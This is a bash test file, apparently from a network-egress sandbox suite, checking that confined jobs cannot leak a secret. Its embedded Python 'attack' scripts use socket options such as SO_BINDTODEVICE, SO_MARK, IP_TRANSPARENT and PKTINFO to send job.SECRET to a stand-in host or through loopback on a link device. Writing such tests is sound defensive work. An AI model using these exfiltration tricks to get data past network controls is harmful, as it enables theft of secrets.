# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0
# Socket options that choose the way out: a device, a firewall mark, a source address.

test_options_that_choose_the_way_out_change_no_verdict() {
	attack <<-'END'
	import socket, sys
	import job
	SO_MARK, IP_UNICAST_IF, IP_TRANSPARENT = 36, 50, 19
	options = {
	    "device": (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"a0"),
	    "mark": (socket.SOL_SOCKET, SO_MARK, 1),
	    "unicast-if": (socket.IPPROTO_IP, IP_UNICAST_IF, socket.htonl(socket.if_nametoindex("a0"))),
	    "transparent": (socket.IPPROTO_IP, IP_TRANSPARENT, 1),
	}
	sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
	sock.setsockopt(*options[sys.argv[1]])
	if sys.argv[1] == "transparent":
	    sock.bind(("198.51.100.20", 0))
	sock.sendto(job.SECRET, ("203.0.113.66", 9999))
	END
	local option
	policy_feed
	for option in device mark unicast-if transparent; do
		new_secret
		echo "# row: $option"
		verdict not-allowed "${ATTACK[@]}" $option
	done
}

# What is sent to loopback by a link's device goes out on the link, for whoever listens there.
test_loopback_by_a_links_device_does_not_leave() {
	attack <<-'END'
	import socket, struct, sys
	import job
	IP_PKTINFO, IPV6_PKTINFO, SO_BINDTODEVICE, IP_UNICAST_IF = 8, 50, 25, 50
	family, how = (socket.AF_INET6 if sys.argv[1] == "6" else socket.AF_INET), sys.argv[2]
	link = socket.if_nametoindex("a0")
	sock, ancillary = socket.socket(family, socket.SOCK_DGRAM), []
	if how == "device":
	    sock.setsockopt(socket.SOL_SOCKET, SO_BINDTODEVICE, b"a0")
	elif how == "unicast-if":
	    sock.setsockopt(socket.IPPROTO_IP, IP_UNICAST_IF, socket.htonl(link))
	elif family == socket.AF_INET:
	    ancillary = [(socket.IPPROTO_IP, IP_PKTINFO, struct.pack("=I8x", link))]
	else:
	    ancillary = [(socket.IPPROTO_IPV6, IPV6_PKTINFO, struct.pack("=16xI", link))]
	sock.sendmsg([job.SECRET], ancillary, 0, ("::1" if family == socket.AF_INET6 else "127.9.9.9", 9999))
	END
	local row
	policy_feed
	for row in "4 device" "4 unicast-if" "4 pktinfo" "6 device" "6 pktinfo"; do
		new_secret
		echo "# row: $row"
		# shellcheck disable=SC2086
		verdict not-allowed "${ATTACK[@]}" $row
	done
}
